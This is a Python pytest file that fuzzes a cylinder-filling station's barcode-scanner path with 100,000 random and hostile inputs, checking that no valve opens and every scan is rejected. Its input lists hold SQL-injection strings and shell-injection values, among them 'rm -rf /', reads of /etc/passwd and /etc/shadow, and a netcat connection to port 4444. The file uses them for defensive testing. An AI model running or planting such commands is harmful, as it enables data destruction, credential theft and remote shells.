"""100,000 random and hostile scanner inputs through the real serial path (pty -> pyserial ->
reader -> lane): no crash, no valve energised, every input journalled as a rejected scan."""

from __future__ import annotations

import os
import random
import shutil
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

from edge.store import journal

from .conftest import SimStation

INPUTS = 100_000
TERMINATOR = b"\r"
SQL = ["'; DROP TABLE fills; --", "1' OR '1'='1", "\" OR 1=1 --", "x'); DELETE FROM journal; --", "%' UNION SELECT * FROM meta --"]
SHELL = ["$(reboot)", "`rm -rf /`", "; cat /etc/passwd", "| nc 10.0.0.1 4444", "&& shutdown -h now", "${IFS}id"]
URLS = [
    "https://", "http://[::1", "https://qp.cqsjj.example.cn/trace?code=", "https://x/?code=%ZZ%", "javascript:alert(1)",
    "https://qp.cqsjj.example.cn/trace?code=CQ" + "9" * 400, "https://例子.测试/trace?code=甲乙丙", "file:///etc/shadow",
    "https://qp.cqsjj.example.cn/trace?id=../../etc&code=<script>",
]


def hostile(rng: random.Random, index: int) -> bytes:
    """One scanner input (without its terminator), of a kind picked by its index."""
    kind = index % 8
    if kind == 0:  # binary garbage
        data = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 120)))
    elif kind == 1:  # a burst far past the reader's maximum length
        data = os.urandom(rng.randint(1001, 12_000)) if index % 64 == 1 else b"A" * rng.randint(1001, 3000)
    elif kind == 2:
        data = (rng.choice(SQL) + str(rng.randint(0, 10**6))).encode()
    elif kind == 3:
        data = (rng.choice(SHELL) + rng.choice(["", "\n", "\t", "\x00", "\x1b[2J"])).encode()
    elif kind == 4:  # a traceable code (3 maker + 2 year + 7 serial) for a cylinder nobody has
        data = f"9{rng.randint(10, 99)}{rng.randint(0, 99):02d}{rng.randint(0, 9_999_999):07d}".encode()
    elif kind == 5:  # a URL of the right shape for an unknown cylinder
        data = f"https://qp.cqsjj.example.cn/trace?code=CQ9{rng.randint(0, 10**13):013d}".encode()
    elif kind == 6:
        data = rng.choice(URLS).encode("utf-8")
    else:  # text that is not ASCII, or control characters
        data = "".join(chr(rng.choice([rng.randint(0x20, 0x7E), rng.randint(0x4E00, 0x9FFF), rng.randint(0, 31)]))
                       for _ in range(rng.randint(1, 60))).encode("utf-8", "surrogatepass")
    # A terminator inside the payload would make two inputs of one; the count must stay exact.
    return data.replace(TERMINATOR, b"")


def feed(sim_scanner: Any, inputs: list[bytes]) -> None:
    for data in inputs:
        sim_scanner.write(data + TERMINATOR)


@pytest.fixture
def tmpfs_dir(tmp_path: Path) -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(dir="/dev/shm" if os.path.isdir("/dev/shm") else tmp_path))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.slow
def test_hostile_scanner_input_never_energises_a_valve(tmpfs_dir: Path, make_station: Callable[..., SimStation]) -> None:
    # This test is about input, so two costs that bound the scan rate are taken away: the journal
    # is fsynced per scan (free on tmpfs), and each verdict drives the stack light's coils (four
    # writes, 40 ms on lane B's 19200-baud bus). Scanner, serial path, lane and store are real.
    def on_tmpfs(raw: dict[str, Any]) -> None:
        raw["store"]["path"] = str(tmpfs_dir / "station.db")
        for lane in raw["lanes"]:
            lane["signals"] = {"driver": "log"}

    s = make_station(on_tmpfs)
    rng = random.Random(20261121)
    per_lane = {lane: [hostile(rng, i) for i in range(INPUTS // 2)] for lane in ("A", "B")}
    started = time.monotonic()
    writers = [threading.Thread(target=feed, args=(s.sim.scanners[lane], per_lane[lane])) for lane in per_lane]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join()
    store = s.station.store
    assert store is not None

    def journalled() -> int:
        return store.query("SELECT count(*) AS n FROM journal WHERE kind = 'scan'")[0]["n"]

    s.wait_for(lambda: journalled() >= INPUTS, what=f"{INPUTS} scans journalled", timeout=600)
    time.sleep(0.5)  # anything more would be an input counted twice
    elapsed = time.monotonic() - started
    scans = [journal.load(r["data"]) for r in store.query("SELECT data FROM journal WHERE kind = 'scan'")]
    reasons = Counter(reason for scan in scans for reason in scan["reasons"])
    print(f"\n{INPUTS} hostile inputs in {elapsed:.1f} s: " + ", ".join(f"{r} {n}" for r, n in reasons.most_common()))

    assert journalled() == INPUTS
    assert not [scan for scan in scans if scan["accepted"]]
    assert set(reasons) <= {"INVALID_CODE", "UNKNOWN_CYLINDER"}
    assert store.query("SELECT count(*) AS n FROM fills")[0]["n"] == 0
    for lane_id, lane in s.station.lanes.items():
        assert s.modbus(lane_id).last_write(0, True) is None, f"lane {lane_id}'s valve coil was written ON"
        assert lane.state.phase.value == "idle" and not lane.loop_stalled(2.0), f"lane {lane_id} is not running"
    assert store.verify().ok
    assert store.query("PRAGMA integrity_check")[0]["integrity_check"] == "ok"
